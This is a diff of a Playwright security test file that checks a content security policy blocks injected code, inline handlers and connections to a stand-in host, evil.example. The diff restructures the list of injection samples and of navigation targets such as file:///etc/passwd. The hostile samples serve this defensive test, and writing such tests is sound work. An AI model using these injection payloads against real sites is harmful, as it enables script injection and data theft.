@@ -1,6 +1,7 @@
 import { expect, type Page } from '@playwright/test'
 import { personId } from '../../shared/domain/ids.ts'
 import { tally, times } from '../security/support/tally.ts'
+import { words } from '../support/words.ts'
 import { ask, untilSynced } from './support/ask.ts'
 import { goHome } from './support/home.ts'
 import { hostileNames } from './support/hostile-names.ts'
@@ -121,58 +122,36 @@ test('sixty hostile names are shown as plain text in every view', async ({ launc
   expect(damaged).toEqual([])
 })
 
-type Attempt = readonly [what: string, run: string]
-
 /** Each tries to run or fetch something, and answers 'through' where it could. */
-const injections: readonly Attempt[] = [
-  ['eval', "try { return (0, eval)('\"through\"') } catch { return 'blocked' }"],
-  ['Function', "try { return new Function('return \"through\"')() } catch { return 'blocked' }"],
-  [
-    'string timer',
+const injections: Readonly<Record<string, string>> = {
+  eval: "try { return (0, eval)('\"through\"') } catch { return 'blocked' }",
+  Function: "try { return new Function('return \"through\"')() } catch { return 'blocked' }",
+  'string timer':
     "globalThis.__t = 'blocked'; try { setTimeout('globalThis.__t = \"through\"', 0) } catch {} await rest(); return globalThis.__t",
-  ],
-  [
-    'inline script',
+  'inline script':
     "globalThis.__s = 'blocked'; add('script', { textContent: 'globalThis.__s = \"through\"' }); await rest(); return globalThis.__s",
-  ],
-  ['remote script', "return await loaded(add('script', { src: 'https://evil.example/x.js' }))"],
-  ['data: script', "return await loaded(add('script', { src: 'data:text/javascript,1' }))"],
-  [
-    'inline handler',
+  'remote script': "return await loaded(add('script', { src: 'https://evil.example/x.js' }))",
+  'data: script': "return await loaded(add('script', { src: 'data:text/javascript,1' }))",
+  'inline handler':
     "globalThis.__h = 'blocked'; add('div', { innerHTML: '<img src=x onerror=\"globalThis.__h = 1 && String.fromCharCode(116)+\\'hrough\\'\">' }); await rest(); return globalThis.__h",
-  ],
-  ['text as markup', "add('div', {}).innerHTML = '<b>'; return 'through'"],
-  [
-    'inline style',
+  'text as markup': "add('div', {}).innerHTML = '<b>'; return 'through'",
+  'inline style':
     "const e = add('div', {}); e.setAttribute('style', 'width: 77px'); return getComputedStyle(e).width === '77px' ? 'through' : 'blocked'",
-  ],
-  ['remote image', "return await loaded(add('img', { src: 'https://evil.example/x.png' }))"],
-  [
-    'remote style',
+  'remote image': "return await loaded(add('img', { src: 'https://evil.example/x.png' }))",
+  'remote style':
     "return await loaded(add('link', { rel: 'stylesheet', href: 'https://evil.example/x.css' }))",
-  ],
-  ['fetch', "return await fetch('https://evil.example').then(() => 'through', () => 'blocked')"],
-  [
-    'XMLHttpRequest',
+  fetch: "return await fetch('https://evil.example').then(() => 'through', () => 'blocked')",
+  XMLHttpRequest:
     "return await new Promise((ok) => { const x = new XMLHttpRequest(); x.onload = () => ok('through'); x.onerror = () => ok('blocked'); try { x.open('GET', 'https://evil.example'); x.send() } catch { ok('blocked') } })",
-  ],
-  [
-    'WebSocket',
+  WebSocket:
     "return await new Promise((ok) => { try { const s = new WebSocket('wss://evil.example'); s.onopen = () => ok('through'); s.onerror = () => ok('blocked') } catch { ok('blocked') } })",
-  ],
-  [
-    'EventSource',
+  EventSource:
     "return await new Promise((ok) => { try { const s = new EventSource('https://evil.example'); s.onopen = () => ok('through'); s.onerror = () => ok('blocked') } catch { ok('blocked') } })",
-  ],
-  [
-    'frame',
+  frame:
     "const f = add('iframe', { src: 'https://evil.example' }); await rest(); try { return f.contentDocument === null ? 'blocked' : f.contentDocument.body.textContent === '' ? 'blocked' : 'through' } catch { return 'blocked' }",
-  ],
-  [
-    'worker',
+  worker:
     "try { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); return await new Promise((ok) => { w.onmessage = () => ok('through'); w.onerror = () => ok('blocked') }) } catch { return 'blocked' }",
-  ],
-]
+}
 
 const workshop = `
   const rest = () => new Promise((ok) => setTimeout(ok, 120))
@@ -184,13 +163,13 @@ test('injected code, styles, pictures and connections are blocked by the policy'
 }) => {
   const through: string[] = []
   // Playwright's own evaluation is not subject to the page's policy; what it does in the page is.
-  for (const [what, run] of injections) {
+  for (const [what, run] of Object.entries(injections)) {
     const outcome = await page
       .evaluate(`(async () => { ${workshop}; await rest(); ${run} })()`)
       .catch((error: Error) => (error.message.includes('Trusted') ? 'blocked' : error.message))
     if (outcome !== 'blocked') through.push(what)
   }
-  tally('injections past the content security policy', injections.length, through.length)
+  tally('injections past the content security policy', Object.keys(injections).length, through.length)
   expect(through).toEqual([])
 })
 
@@ -198,21 +177,14 @@ const outside = 'https://evil.example/'
 const ways: readonly string[] = [
   ...[
     outside,
-    'about:blank',
-    'data:text/html,x',
-    'javascript:1',
-    'file:///etc/passwd',
-    '/index.html',
-    'app://foyer/index.html',
+    ...words(
+      'about:blank data:text/html,x javascript:1 file:///etc/passwd /index.html app://foyer/index.html',
+    ),
   ].map((url) => `window.open(${JSON.stringify(url)})`),
   `window.open('${outside}', '_blank', 'popup,noopener')`,
   ...[
     outside,
-    'file:///etc/passwd',
-    'data:text/html,x',
-    'about:blank',
-    'app://evil/index.html',
-    '/assets/',
+    ...words('file:///etc/passwd data:text/html,x about:blank app://evil/index.html /assets/'),
   ].map((url) => `location.href = ${JSON.stringify(url)}`),
   `location.replace('${outside}')`,
   `location.assign('${outside}')`,
